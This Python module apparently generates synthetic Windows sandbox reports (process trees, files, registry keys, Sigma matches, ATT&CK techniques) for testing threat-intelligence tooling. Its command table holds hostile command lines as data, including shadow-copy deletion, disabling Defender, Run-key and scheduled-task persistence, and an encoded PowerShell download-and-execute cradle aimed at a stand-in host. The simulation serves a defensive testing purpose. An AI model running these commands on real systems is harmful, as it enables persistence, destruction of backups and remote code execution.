"""Attributes of a Windows sandbox run: processes, files, registry, mutexes, signatures, ATT&CK."""

from __future__ import annotations

import base64
from random import Random
from typing import Any

from iocgate.sim.network import add_background_traffic, network_attributes
from iocgate.sim.profile import FileProfile
from iocgate.sim.signatures import SIGMA_RULES, Signature
from iocgate.sim.vocabulary import (
    CALLS,
    DLLS,
    REGISTRY_KEYS,
    SERVICES,
    SYSTEM_PROPERTIES,
    TAGS,
    TEXT_HIGHLIGHTS,
    WINDOWS_SYSTEM_FILES,
    WORDS,
    guid,
    hex_string,
    pick_some,
)

__all__ = ["signature_attributes", "windows_attributes"]

_USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)

# A technique seen in the report leaves traces elsewhere in it; these are the command lines.
_COMMANDS: dict[str, str] = {
    "T1053.005": "C:\\Windows\\System32\\schtasks.exe /create /f /sc onlogon /rl highest "
    '/tn "{word}" /tr "%APPDATA%\\{word}.exe"',
    "T1059.001": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
    "-NoP -NonI -W Hidden -enc {b64}",
    "T1059.003": 'C:\\Windows\\System32\\cmd.exe /c ping 127.0.0.1 -n 3 & del "%SAMPLEPATH%"',
    "T1059.005": 'C:\\Windows\\System32\\wscript.exe "%TEMP%\\{word}.vbs"',
    "T1490": "C:\\Windows\\System32\\vssadmin.exe delete shadows /all /quiet",
    "T1218.011": "C:\\Windows\\System32\\rundll32.exe %TEMP%\\{word}.dat,DllRegisterServer",
    "T1547.001": "C:\\Windows\\System32\\reg.exe add "
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
    '/v {word} /d "%APPDATA%\\{word}.exe" /f',
    "T1543.003": "C:\\Windows\\System32\\sc.exe create {word} "
    'binPath= "C:\\ProgramData\\{word}\\{word}.exe" start= auto',
    "T1562.001": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "T1047": "C:\\Windows\\System32\\wbem\\WMIC.exe computersystem get domain",
}


def windows_attributes(
    rng: Random, profile: FileProfile, features: frozenset[str], *, has_memdump: bool
) -> dict[str, Any]:
    """One Windows run; `features` (from `SANDBOXES`) decides which families are present."""
    scale = max(1, int(profile.scale * rng.uniform(0.7, 1.3)))
    sample = f"%SAMPLEPATH%\\{profile.sample_name}"
    signatures = [sig for sig in profile.signatures if rng.random() < 0.75]
    by_technique = {
        sig.technique: _COMMANDS[sig.technique].format(
            word=rng.choice(WORDS), b64=_encoded_command(_b64ish(rng), profile)
        )
        for sig in signatures
        if sig.technique in _COMMANDS
    }
    commands = [f'"{sample}" ', *by_technique.values()]
    attributes: dict[str, Any] = {}
    if "processes" in features or "tree" in features:
        attributes["processes_tree"] = _tree(rng, commands, depth=3 if scale < 500 else 12)
        attributes["processes_terminated"] = [
            _image(cmd) for cmd in commands[1:] if rng.random() < 0.6
        ]
    if "processes" in features:
        attributes["command_executions"] = commands
        attributes["processes_created"] = list(dict.fromkeys(_image(cmd) for cmd in commands))
        if any(sig.technique.startswith("T1055") for sig in signatures):
            attributes["processes_injected"] = [
                "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegSvcs.exe"
            ]
    if "files" in features:
        attributes.update(_files(rng, profile, scale))
    if "registry" in features:
        attributes.update(_registry(rng, profile, signatures, scale))
    if "modules" in features:
        attributes["modules_loaded"] = _modules(rng, sample, scale)
    if "mutexes" in features:
        attributes["mutexes_created"] = list(profile.mutexes) + pick_some(
            rng, ("Local\\ZonesCacheCounterMutex", "Local\\ZonesLockedCacheCounterMutex"), 0, 2
        )
        attributes["mutexes_opened"] = ["ShimCacheMutex"] if rng.random() < 0.7 else []
    if "calls" in features:
        attributes["calls_highlighted"] = pick_some(rng, CALLS, 1, 6)
    if "tags" in features:
        attributes["tags"] = pick_some(rng, TAGS, 1, 5)
    if "text" in features:
        attributes["text_highlighted"] = pick_some(rng, TEXT_HIGHLIGHTS, 1, 4)
    if "services" in features:
        attributes["services_opened"] = pick_some(rng, SERVICES, 0, 3)
        if any(sig.technique == "T1543.003" for sig in signatures):
            attributes["services_created"] = [rng.choice(WORDS)]
    if "windows" in features:
        attributes["windows_searched"] = pick_some(
            rng, ("OLLYDBG", "WinDbgFrameClass", "Shell_TrayWnd", "Progman"), 0, 2
        )
    if "properties" in features:
        attributes["system_property_lookups"] = pick_some(rng, SYSTEM_PROPERTIES, 0, 3)
    if "crypto" in features:
        attributes["crypto_algorithms_observed"] = pick_some(rng, ("AES", "RC4", "SHA256"), 0, 2)
        if any(sig.technique == "T1140" for sig in signatures):
            attributes["encoding_algorithms_observed"] = ["base64"]
    if "network" in features and profile.hosts:
        attributes.update(
            network_attributes(rng, profile, user_agent=_USER_AGENT, with_ids="ids" in features)
        )
        add_background_traffic(Random(f"{profile.sha256}/background"), attributes)
    if "signatures" in features or "mitre" in features:
        attributes.update(
            signature_attributes(
                signatures,
                with_matches="signatures" in features,
                with_mitre="mitre" in features,
                commands=by_technique,
            )
        )
    if "sigma" in features:
        attributes["sigma_analysis_results"] = _sigma(rng, commands)
    if "memory" in features:
        attributes["memory_pattern_domains"] = list(profile.embedded_hosts)
        attributes["memory_pattern_ips"] = list(profile.embedded_ips)
        attributes["memory_pattern_urls"] = list(profile.embedded_urls)
    if has_memdump:
        attributes["memory_dumps"] = _memory_dumps(rng, profile.sample_name)
    return attributes


def signature_attributes(
    signatures: list[Signature],
    *,
    with_matches: bool,
    with_mitre: bool,
    commands: dict[str, str] | None = None,
) -> dict[str, Any]:
    """`signature_matches` and `mitre_attack_techniques`, cross-referenced as VirusTotal does.

    A signature whose technique ran a command names that command line in its `match_data`,
    as sandboxes do, so the process that triggered it can be found (#22.4)."""
    commands = commands or {}
    attributes: dict[str, Any] = {}
    if with_matches:
        attributes["signature_matches"] = [
            {
                "id": sig.id,
                "description": sig.description,
                "severity": f"IMPACT_SEVERITY_{sig.severity}",
                "match_data": [
                    sig.description,
                    *([commands[sig.technique]] if sig.technique in commands else []),
                ],
            }
            for sig in signatures
        ]
    if with_mitre:
        attributes["mitre_attack_techniques"] = [
            {
                "id": sig.technique,
                "signature_description": sig.description,
                "severity": f"IMPACT_SEVERITY_{sig.severity}",
                **(
                    {"refs": [{"ref": "#signature_matches", "value": sig.id}]}
                    if with_matches
                    else {}
                ),
            }
            for sig in signatures
        ]
    return attributes


def _b64ish(rng: Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(alphabet) for _ in range(48)) + "=="


def _encoded_command(drawn: str, profile: FileProfile) -> str:
    """A real `-enc` payload (base64 of UTF-16LE PowerShell) in place of the drawn letters,
    which still pick the script name, so the random stream stays as it was."""
    host = profile.hosts[0].name if profile.hosts else "update.example"
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{host}/{drawn[:6]}.ps1')"
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _image(command: str) -> str:
    if command.startswith('"'):
        return command[1:].split('"', 1)[0]
    return command.split(" ", 1)[0]


def _tree(rng: Random, commands: list[str], *, depth: int) -> list[dict[str, Any]]:
    """Nested processes; real reports give `process_id` as a string, and nest deeply."""

    def node(name: str, offset: int) -> dict[str, Any]:
        return {
            "process_id": str(rng.randrange(1000, 9000, 4)),
            "name": name,
            "time_offset": offset,
        }

    root = node(commands[0], 0)
    parent = root
    for level, command in enumerate(commands[1:], start=1):
        child = node(command, level * rng.randint(1, 9))
        parent.setdefault("children", []).append(child)
        if level < depth and rng.random() < 0.5:
            parent = child
    chain = root
    for level in range(depth - 3 if depth > 3 else 0):
        deeper = node(f"C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1 #{level}", level)
        chain.setdefault("children", []).append(deeper)
        chain = deeper
    return [root]


def _files(rng: Random, profile: FileProfile, scale: int) -> dict[str, Any]:
    user_files = {
        f"C:\\Users\\<USER>\\AppData\\Local\\Temp\\{hex_string(rng, 8)}.tmp"
        for _ in range(scale // 2 + 1)
    }
    opened = list(WINDOWS_SYSTEM_FILES[: rng.randint(2, len(WINDOWS_SYSTEM_FILES))])
    opened += [f"C:\\Windows\\system32\\{dll}" for dll in pick_some(rng, DLLS, 1, scale + 2)]
    opened += [
        f"C:\\Users\\<USER>\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\"
        f"{rng.choice(WORDS)}_{index}.lnk"
        for index in range(2 * scale)
    ]
    written = [drop.path for drop in profile.dropped] + sorted(user_files)
    dropped = [
        {"path": drop.path, "sha256": drop.sha256, "type": drop.type}
        for drop in profile.dropped
        if rng.random() < 0.85
    ]
    deleted = sorted(user_files)[: max(1, len(user_files) // 3)]
    attributes: dict[str, Any] = {
        "files_opened": opened,
        "files_written": written,
        "files_deleted": deleted,
        "files_dropped": dropped,
    }
    if dropped and rng.random() < 0.5:
        attributes["files_copied"] = [
            {"source": f"%SAMPLEPATH%\\{profile.sample_name}", "destination": dropped[0]["path"]}
        ]
    return attributes


def _registry(
    rng: Random, profile: FileProfile, signatures: list[Signature], scale: int
) -> dict[str, Any]:
    opened = list(REGISTRY_KEYS[: rng.randint(3, len(REGISTRY_KEYS))])
    opened += [
        f"HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\CLSID\\{guid(rng)}\\InProcServer32"
        for _ in range(3 * scale)
    ]
    written: list[dict[str, str]] = [
        {
            "key": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"
            f"\\ComDlg32\\OpenSavePidlMRU\\{rng.choice(WORDS)}",
            "value": hex_string(rng, 16),
        }
        for _ in range(max(1, scale // 4))
    ]
    if any(sig.technique == "T1547.001" for sig in signatures):
        name = profile.sample_name.rsplit(".", 1)[0]
        written.insert(
            0,
            {
                "key": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion"
                f"\\Run\\{name}",
                "value": f"%APPDATA%\\{profile.sample_name}",
            },
        )
    return {"registry_keys_opened": opened, "registry_keys_set": written}


def _modules(rng: Random, sample: str, scale: int) -> list[str]:
    modules = [sample, *pick_some(rng, DLLS, 3, 12 + scale)]
    modules += [
        f"C:\\Windows\\WinSxS\\amd64_microsoft.windows.common-controls_{hex_string(rng, 16)}"
        f"_6.0.19041.{rng.randint(1000, 4000)}_none\\comctl32.dll"
        for _ in range(scale // 8)
    ]
    return modules


def _sigma(rng: Random, commands: list[str]) -> list[dict[str, Any]]:
    results = []
    for rule in SIGMA_RULES:
        matching = [cmd for cmd in commands if cmd.split(" ", 1)[0].lower() == rule.image.lower()]
        if not matching:
            continue
        results.append(
            {
                "rule_title": rule.title,
                "rule_source": "Sigma Integrated Rule Set (GitHub)",
                "rule_level": rule.level,
                "rule_description": rule.description,
                "rule_author": rule.author,
                "rule_id": rule.rule_id,
                "match_context": [
                    {
                        "values": {
                            "EventID": "1",
                            "Image": rule.image,
                            "CommandLine": matching[0],
                            "ParentImage": "C:\\Windows\\explorer.exe",
                            "ProcessId": str(rng.randrange(1000, 9000, 4)),
                        }
                    }
                ],
            }
        )
    return results


def _memory_dumps(rng: Random, sample_name: str) -> list[dict[str, Any]]:
    dumps = []
    for _ in range(rng.randint(2, 6)):
        base = rng.randrange(0x400000, 0x7FFF0000, 0x1000)
        size = rng.randrange(0x1000, 0x40000, 0x1000)
        dumps.append(
            {
                "process": f"C:\\Users\\user\\Desktop\\{sample_name}",
                "file_name": f"00000000.00000003.{rng.randint(10**9, 4 * 10**9)}."
                f"{base:016X}.00000004.00000020.00020000.00000000.sdmp",
                "base_address": str(base),
                "size": str(size),
                "stage": rng.choice(("MEM_STAGE_FREE", "MEM_STAGE_EXIT")),
            }
        )
    return dumps
